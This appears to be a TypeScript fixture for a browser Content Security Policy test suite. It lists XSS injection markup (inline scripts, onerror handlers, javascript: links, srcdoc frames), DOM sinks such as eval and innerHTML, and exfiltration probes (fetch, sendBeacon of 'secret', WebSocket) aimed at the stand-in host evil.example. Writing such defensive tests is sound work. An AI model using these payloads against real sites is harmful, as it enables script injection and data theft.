/** A host for each injection, as of a frame's address the browser tells the host alone. Nobody is there. */
const urlOf = (name: string) => `http://${name}.evil.example/`;

/** nameOf is the injection whose host an address has, undefined when none has it. */
export const nameOf = (url: string) => /^\w+:\/\/([\w-]+)\.evil\.example/.exec(url)?.[1];

export interface Injection {
  name: string;
  /** What the browser must name as broken. */
  directive: string;
  markup: string;
}

/** Runs in the page: asks `url`, or lets `code` or the code in `markup` run, where nothing forbids it. */
type Act = (url: string, code: string, markup: string) => unknown;

export interface Probe {
  name: string;
  directive: string;
  act: Act | string;
}

type MarkupRow = [name: string, directive: string, write: (name: string, code: string) => string];
type ProbeRow = [name: string, directive: string, act: Act | string];

/** What a script that got in does: it writes its name into a list of the page. */
const codeOf = (name: string) => `top.ran.push('${name}')`;

const toInjection = ([name, directive, write]: MarkupRow): Injection => ({
  name,
  directive,
  markup: write(name, codeOf(name)),
});

const MARKUP_ROWS: MarkupRow[] = [
  ['inline-script', 'script-src-elem', (id, code) => `<script id="${id}">${code}</script>`],
  ['inline-module', 'script-src-elem', (id, code) => `<script type="module" id="${id}">${code}</script>`],
  ['data', 'script-src-elem', (id, code) => `<script id="${id}" src="data:,${code}"></script>`],
  ['handler', 'script-src-attr', (id, code) => `<img id="${id}" src="missing.png" onerror="${code}">`],
  [
    'frame-script',
    'script-src-elem',
    (id, code) => `<iframe srcdoc="<script id=${id}>${code}</script>"></iframe>`,
  ],
  ['inline-style', 'style-src-elem', (id) => `<style id="${id}">:root { --${id}: ran }</style>`],
  ['style-attribute', 'style-src-attr', (id) => `<p id="${id}" style="--${id}: ran"></p>`],
  ['foreign-script', 'script-src-elem', (id) => `<script src="${urlOf(id)}"></script>`],
  ['foreign-style', 'style-src-elem', (id) => `<link rel="stylesheet" href="${urlOf(id)}">`],
  ['foreign-image', 'img-src', (id) => `<img src="${urlOf(id)}">`],
  ['foreign-video', 'media-src', (id) => `<video src="${urlOf(id)}"></video>`],
  ['foreign-frame', 'frame-src', (id) => `<iframe src="${urlOf(id)}"></iframe>`],
  ['foreign-object', 'object-src', (id) => `<object data="${urlOf(id)}" type="text/html"></object>`],
  ['foreign-embed', 'object-src', (id) => `<embed src="${urlOf(id)}" type="text/html">`],
];

/** Markup that acts by itself as soon as it is in the page. */
export const MARKUP = MARKUP_ROWS.map(toInjection);

const TRAP_ROWS: MarkupRow[] = [
  ['script-link', 'script-src-elem', (id, code) => `<a id="${id}" href="javascript:${code}">Trap</a>`],
  [
    'tap-handler',
    'script-src-attr',
    (id, code) => `<button id="${id}" type="button" onclick="${code}">Trap</button>`,
  ],
  [
    'foreign-form',
    'form-action',
    (id) => `<form action="${urlOf(id)}" method="post"><button id="${id}">Trap</button></form>`,
  ],
  [
    'form-button',
    'form-action',
    (id) => `<form><button id="${id}" formaction="${urlOf(id)}">Trap</button></form>`,
  ],
];

/** Markup that waits for a tap on what has its name as the id. */
export const TRAPS = TRAP_ROWS.map(toInjection);

const SINK = 'require-trusted-types-for';

const PROBE_ROWS: ProbeRow[] = [
  ['eval', SINK, (_, code) => Reflect.get(window, 'eval')(code)],
  ['function', SINK, (_, code) => Reflect.construct(Function, [code])()],
  ['timer', SINK, 'setTimeout(code)'],
  ['inner-html', SINK, 'document.body.appendChild(document.createElement("p")).innerHTML = markup'],
  ['outer-html', SINK, 'document.body.appendChild(document.createElement("p")).outerHTML = markup'],
  ['adjacent-html', SINK, 'document.body.insertAdjacentHTML("beforeend", markup)'],
  [
    'written-document',
    SINK,
    (_, __, markup) =>
      document.body.appendChild(document.createElement('iframe')).contentDocument?.write(markup),
  ],
  [
    'document-in-a-frame',
    SINK,
    (_, __, markup) =>
      document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: markup })),
  ],
  [
    'fragment',
    SINK,
    (_, __, markup) => document.body.append(document.createRange().createContextualFragment(markup)),
  ],
  [
    'parser',
    SINK,
    (_, __, markup) =>
      document.body.append(...new DOMParser().parseFromString(markup, 'text/html').body.childNodes),
  ],
  [
    'script-text',
    SINK,
    (_, code) => document.body.append(Object.assign(document.createElement('script'), { text: code })),
  ],
  [
    'script-address',
    SINK,
    (url) => document.body.append(Object.assign(document.createElement('script'), { src: url })),
  ],
  [
    'worker',
    SINK,
    (url) => new Worker(URL.createObjectURL(new Blob([`fetch("${url}")`], { type: 'text/javascript' }))),
  ],
  [
    'named-policy',
    'trusted-types',
    'document.body.appendChild(document.createElement("p")).innerHTML = trustedTypes.createPolicy("evil", { createHTML: () => markup }).createHTML("")',
  ],
  [
    'default-policy',
    'trusted-types',
    'trustedTypes.createPolicy("default", { createHTML: (text) => text }); document.body.appendChild(document.createElement("p")).innerHTML = markup',
  ],
  ['import', 'script-src-elem', 'import(url)'],
  ['fetch', 'connect-src', (url) => fetch(url, { mode: 'no-cors' })],
  ['beacon', 'connect-src', (url) => navigator.sendBeacon(url, 'secret')],
  ['event-stream', 'connect-src', (url) => new EventSource(url)],
  [
    'request',
    'connect-src',
    (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
  ],
  ['socket', 'connect-src', (url) => new WebSocket(url.replace('http', 'ws'))],
  ['image', 'img-src', (url) => Object.assign(new Image(), { src: url })],
  ['font', 'font-src', (url) => new FontFace('evil', `url(${url})`).load()],
];

/** What code does that was led astray, or that came in after all. */
export const PROBES: Probe[] = PROBE_ROWS.map(([name, directive, act]) => ({ name, directive, act }));

/** probesScript is a script that puts each probe into `window.probes`, by its name. */
export function probesScript(): string {
  const entries = PROBES.map(({ name, act }) => {
    const [url, code] = [urlOf(name), codeOf(name)];
    const markup = `<img src="missing.png" onerror="${code}">`;
    const body = typeof act === 'string' ? `(url, code, markup) => { ${act} }` : String(act);
    return `${JSON.stringify(name)}: () => (${body})(${[url, code, markup].map((text) => JSON.stringify(text))})`;
  });
  return `window.probes = { ${entries.join(',\n')} };`;
}
